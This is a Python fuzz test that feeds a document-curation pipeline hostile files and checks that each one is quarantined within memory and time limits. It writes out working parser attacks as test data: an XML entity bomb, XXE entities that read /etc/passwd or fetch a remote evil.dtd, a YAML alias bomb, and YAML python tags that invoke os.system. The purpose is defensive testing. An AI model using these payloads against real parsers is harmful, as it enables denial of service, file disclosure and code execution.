"""Fuzz: generated hostile files through every domain's curation, in a child process whose
peak memory and time are measured. Every file must end up quarantined with a reason (or, for
the few valid seeds, curated); the run must not fail, fetch, execute or blow up.
"""

from __future__ import annotations

import json
import random
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent
SEED_FILES = {
    "openapi": ("spec.yaml", "openapi: 3.0.3\ninfo: {title: Fuzz, version: '1'}\npaths:\n  /a:\n    get:\n"
                "      summary: Get a\n      responses: {'200': {description: ok}}\n"),
    "opcua": ("m.NodeSet2.xml", '<UANodeSet xmlns="http://opcfoundation.org/UA/2011/03/UANodeSet.xsd">'
              '<UAObject NodeId="ns=1;i=1" BrowseName="1:Pump"><DisplayName>Pump</DisplayName>'
              '<Description>A pump</Description></UAObject></UANodeSet>'),
    "cicd": (".gitlab-ci.yml", "stages: [build]\nbuild:\n  stage: build\n  script: [make]\n"),
}


def _hostile(rng: random.Random, sub: str) -> dict[str, bytes]:
    """name -> bytes: a spread of malformed, hostile and degenerate inputs for one domain."""
    name, seed = SEED_FILES[sub]
    ext = "." + name.rsplit(".", 1)[-1]
    files: dict[str, bytes] = {}
    b = seed.encode()
    for i in range(6):
        cut = rng.randrange(1, len(b) - 1)
        files[f"truncated{i}{ext}"] = b[:cut]
        flip = bytearray(b)
        for _ in range(rng.randrange(1, 8)):
            flip[rng.randrange(len(flip))] = rng.randrange(256)
        files[f"flipped{i}{ext}"] = bytes(flip)
    files[f"empty{ext}"] = b""
    files[f"blank{ext}"] = b"   \n\n  "
    files[f"binary{ext}"] = bytes(rng.randrange(256) for _ in range(4096))
    files[f"latin1{ext}"] = ("caf\xe9 " * 50).encode("latin-1")
    files[f"utf16{ext}"] = seed.encode("utf-16")
    n = 5000
    files["deep.json"] = b"[" * n + b"]" * n
    files["deep.yaml"] = ("a:\n" + "".join(" " * (2 * k) + "  b:\n" for k in range(1, 200)) + " " * 400 + "c: 1\n").encode()
    files["deepflow.yaml"] = b"[" * n + b"]" * n
    files["deep.xml"] = b"<a>" * n + b"</a>" * n
    files["lol.xml"] = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                        + b"".join(b'<!ENTITY lol%d "%s">' % (k, (b"&lol%d;" % (k - 1) if k else b"&lol;") * 10) for k in range(1, 10))
                        + b']><UANodeSet>&lol9;</UANodeSet>')
    files["xxe.xml"] = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
                        b"<UANodeSet><UAObject BrowseName='&e;'/></UANodeSet>")
    files["xxe_remote.xml"] = (b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://203.0.113.1/evil.dtd">'
                               b"<UANodeSet/>")
    files["alias_bomb.yaml"] = ("a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{chr(98 + k)}: &{chr(98 + k)} [" + ",".join([f"*{chr(97 + k)}"] * 9) + "]\n" for k in range(8))).encode()
    files["pytag.yaml"] = b"openapi: !!python/object/apply:os.system ['touch /tmp/ossa-pwned']\n"
    files["pyname.yaml"] = b"stages: !!python/name:os.system\n"
    files["jsonbomb.json"] = b'{"a":' * 3000 + b"1" + b"}" * 3000
    files["nul.yaml"] = b"key: value\x00\x00\x00"
    files[f"valid{ext}" if ext != ".yml" else "valid.yml"] = b
    return files


CHILD = textwrap.dedent('''
    import json, resource, sys, time
    from pathlib import Path
    from ossa_assets.lib.curation import pipeline
    from ossa_assets.lib.curation.sources import SourceSpec, list_files
    root, cache, domain = Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3]
    spec = SourceSpec(name="fuzz", domain=domain, kind="local", path=str(root))
    t = time.perf_counter()
    r = pipeline.curate_source(spec, list_files(spec, cache), cache, pipeline.CurationSettings())
    print(json.dumps({
        "seconds": time.perf_counter() - t,
        "peak_mb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024,
        "seen": r.files_seen,
        "docs": [d.path for d in r.documents],
        "quarantine": {q.path: q.reason for q in r.quarantined},
        "texts": [d.text for d in r.documents] + [u["text"] for d in r.documents for u in d.units],
    }))
''')


@pytest.mark.parametrize(("sub", "domain"), [("openapi", "api_spec"), ("opcua", "industrial_protocol"),
                                             ("cicd", "devops_workflow")])
def test_fuzzed_hostile_files_are_quarantined_with_bounded_memory(tmp_path, sub, domain):
    rng = random.Random(f"ossa-fuzz-{sub}")
    root = tmp_path / "src"
    root.mkdir()
    files = _hostile(rng, sub)
    for name, data in files.items():
        (root / name).write_bytes(data)
    # > 50 MB, sparse on disk: must be rejected from its size alone, never read
    with open(root / "huge.yaml", "wb") as f:
        f.truncate(60 * 1024 * 1024)
    out = subprocess.run([sys.executable, "-c", CHILD, str(root), str(tmp_path / "cache"), domain],
                         cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stderr[-3000:]
    res = json.loads(out.stdout.strip().splitlines()[-1])
    assert res["seen"] == len(files) + 1
    accounted = set(res["docs"]) | set(res["quarantine"])
    assert accounted == set(files) | {"huge.yaml"}, "every file is curated or quarantined"
    q = res["quarantine"]
    assert all(q.values()), "every quarantined file has a reason"
    assert q["huge.yaml"] == "too_large"
    assert q["empty" + Path(SEED_FILES[sub][0]).suffix] == "empty"
    assert q["binary" + Path(SEED_FILES[sub][0]).suffix] == "binary"
    assert q["deep.json"] in ("too_deep", "not_openapi", "not_nodeset", "not_pipeline", "unsupported_format")
    assert q["lol.xml"] in ("unsafe_xml", "unsupported_format")
    assert q["xxe.xml"] in ("unsafe_xml", "unsupported_format")
    assert q["alias_bomb.yaml"] in ("yaml_alias_bomb",) or sub == "opcua"
    assert q["pytag.yaml"] in ("yaml_unsafe_tag",) or sub == "opcua"
    valid = next(n for n in files if n.startswith("valid"))
    assert valid in res["docs"], (valid, q.get(valid))
    assert not Path("/tmp/ossa-pwned").exists(), "a YAML tag executed code"
    assert not any("root:x:0:0" in t for t in res["texts"]), "an external entity was resolved"
    assert res["peak_mb"] < 1500, f"peak memory {res['peak_mb']:.0f} MB"
    assert res["seconds"] < 120
